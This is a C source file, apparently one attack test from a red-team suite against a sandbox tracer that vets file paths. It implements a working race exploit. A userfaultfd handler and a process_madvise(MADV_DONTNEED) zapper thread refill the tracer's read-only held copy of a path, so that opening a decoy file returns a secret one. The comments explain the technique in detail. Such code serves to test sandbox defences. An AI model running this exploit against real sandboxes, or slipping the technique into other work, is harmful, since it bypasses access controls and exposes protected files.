/* area_uffd_refill.c: the tracer's held copy taken away and refilled by a userfaultfd's reader
 * (review 52).
 *
 * The scratch area is the program's read-only, private anonymous memory; nothing the program
 * does writes it -- but a userfaultfd whose range takes in the area fills a *missing* page of
 * it on a fault, with any contents, read-only mapping or not (UFFDIO_COPY installs the page;
 * UFFDIO_REGISTER needs VM_MAYWRITE only, which a private mapping has).  A page goes missing
 * by MADV_DONTNEED, which madvise's guard refuses on the area but process_madvise (on the
 * caller's own memory, its ranges in an iovec) does not: "zeros, refusals only" (red team 74)
 * -- unless a userfaultfd is registered there, when the next reader of the page waits for the
 * fault's handler and reads what it puts there.
 *
 * So: a first held open lets the tracer write the slot's first page (a registered missing page
 * is one the tracer's own write cannot fault in: its write fails, the call is refused); then
 * the area is registered, one thread zaps the first page of the first slots in a loop (and reads
 * it at once, so that it is there again for the tracer's next write), another answers each
 * fault with a page whose path is the secret's, and the main thread opens the
 * decoy: the tracer checks the decoy, writes its copy, the zapper takes the page away, and the
 * kernel's read of the copy faults into the handler.  A third thread flips the program's own
 * buffer (decoy <-> secret): natively (no tracer, no area: the register fails) that is what
 * reaches the secret (the control).
 *
 *   area_uffd_refill SECRET DECOY   (absolute paths of the same length)
 */
#include "attack.h"
#include <linux/userfaultfd.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/uio.h>

#define BASE 0x100000000000UL
#define AREA (1UL << 30)
#define SLOT (256UL * 1024)
#define SLOTS 8
#define PATH1 32
#define PAGE 4096UL

static const char *secret, *decoy;
static char path[4096];
static volatile int done, registered;
static int uffd = -1, pidfd = -1;
static volatile unsigned long faults, zaps;
static volatile int zap_error;  /* (the errno of the zapper's last refused advice) */

static void *flip(void *unused) {
    (void)unused;
    size_t n = strlen(secret) + 1;
    while (!done) {
        memcpy(path, secret, n);
        memcpy(path, decoy, n);
    }
    return NULL;
}

static void *handler(void *unused) {
    (void)unused;
    static char page[PAGE] __attribute__((aligned(4096)));
    memset(page, 0, sizeof page);  /* (an openat2's how at 0: no flags, no resolve flags) */
    memcpy(page + PATH1, secret, strlen(secret) + 1);
    while (!registered && !done) usleep(1000);
    while (!done) {
        struct pollfd p = {.fd = uffd, .events = POLLIN};
        if (poll(&p, 1, 100) <= 0) continue;
        struct uffd_msg msg;
        if (read(uffd, &msg, sizeof msg) != (ssize_t)sizeof msg) continue;
        if (msg.event != UFFD_EVENT_PAGEFAULT) continue;
        unsigned long at = msg.arg.pagefault.address & ~(PAGE - 1);
        struct uffdio_copy copy = {.dst = at, .src = (unsigned long)page, .len = PAGE};
        ioctl(uffd, UFFDIO_COPY, &copy);
        faults++;
    }
    return NULL;
}

static void *zapper(void *unused) {
    (void)unused;
    struct iovec v[SLOTS];
    for (int s = 0; s < SLOTS; s++) {
        v[s].iov_base = (void *)(BASE + s * SLOT);
        v[s].iov_len = PAGE;
    }
    while (!registered && !done) usleep(1000);
    while (!done) {
        if (syscall(SYS_process_madvise, pidfd, v, SLOTS, MADV_DONTNEED, 0) >= 0) zaps++;
        else zap_error = errno;
        /* (and faulted in again at once, the secret's page: a page left missing is one the
         * tracer's next write fails on -- its write cannot wait for the handler) */
        for (int s = 0; s < SLOTS; s++) (void)*(volatile char *)(BASE + s * SLOT + PATH1);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 3) usage("area_uffd_refill SECRET DECOY");
    secret = argv[1];
    decoy = argv[2];
    memcpy(path, decoy, strlen(decoy) + 1);
    pidfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
    pthread_t f, h, z;
    /* (all made before the area is registered: a clone3 held in a missing page of it fails) */
    pthread_create(&f, NULL, flip, NULL);  /* (not alone: the opens are held) */
    pthread_create(&h, NULL, handler, NULL);
    pthread_create(&z, NULL, zapper, NULL);
    int fd = open(decoy, O_RDONLY);        /* (the slot's first page written by the tracer) */
    if (fd >= 0) close(fd);
    uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    if (uffd < 0) {
        done = 1;
        if (!tracer_pid()) skipped("no userfaultfd here: %s", ename(errno));
        blocked("userfaultfd: %s", ename(errno));
    }
    struct uffdio_api api = {.api = UFFD_API};
    if (ioctl(uffd, UFFDIO_API, &api) < 0) blocked("UFFDIO_API: %s", ename(errno));
    struct uffdio_register reg = {.range = {.start = BASE, .len = AREA},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    int r = ioctl(uffd, UFFDIO_REGISTER, &reg);
    note("UFFDIO_REGISTER of the area: %s", r < 0 ? ename(errno) : "ok");
    if (r == 0) registered = 1;
    int refused = 0, other = 0;
    for (int i = 0; i < 20000; i++) {
        fd = open(path, O_RDONLY);
        if (fd < 0) {
            refused++;
            continue;
        }
        if (is_secret_fd(fd)) {
            done = 1;
            escaped("open %d of the decoy gave the secret (fd -> %s; %lu faults, %lu zaps)", i,
                    fd_name(fd), faults, zaps);
        }
        other++;
        close(fd);
    }
    done = 1;
    note("process_madvise(MADV_DONTNEED) of the area: %s",
         zaps ? "ok" : zap_error ? ename(zap_error) : "never ran");
    blocked("20000 opens: %d refused, %d not the secret (%lu faults, %lu zaps)", refused, other,
            faults, zaps);
}
